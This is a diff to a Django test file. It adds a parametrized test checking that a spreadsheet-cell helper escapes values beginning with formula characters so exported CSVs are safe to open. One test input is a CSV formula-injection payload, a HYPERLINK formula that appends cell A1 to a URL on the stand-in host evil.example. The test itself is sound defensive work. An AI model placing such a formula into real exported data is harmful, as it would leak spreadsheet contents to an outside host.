@@ -1,4 +1,5 @@
-"""Job files: private on disk, removed once expired or orphaned."""
+"""Job files: private on disk, removed once expired or orphaned; CSV safe to open in a
+spreadsheet."""
 
 import os
 import time
@@ -8,7 +9,7 @@ import pytest
 from django.core.management import call_command
 from django.utils import timezone
 
-from config import files
+from config import files, spreadsheet
 from config.models import Job, JobStatus
 
 
@@ -91,3 +92,27 @@ def test_cleanup_removes_expired_and_orphan_files_only(media, province_officer):
     assert all(p.exists() for p in kept)
     assert files.cleanup() == files.Cleaned(expired=0, orphans=0)  # nothing more to do
     assert files.expired(old) and not files.expired(recent) and not files.expired(running)
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
+            '\'=HYPERLINK("http://evil.example/?"&A1,"Xem")',
+        ),
+        ("+84 912 345 678", "'+84 912 345 678"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Đặng Thị Hoà", "Đặng Thị Hoà"),
+        ("a=b", "a=b"),
+        ("1984-02-29", "1984-02-29"),
+        ("", ""),
+        (None, ""),
+        (12, "12"),
+    ],
+)
+def test_spreadsheet_cells_are_text(value, cell):
+    assert spreadsheet.safe_cell(value) == cell
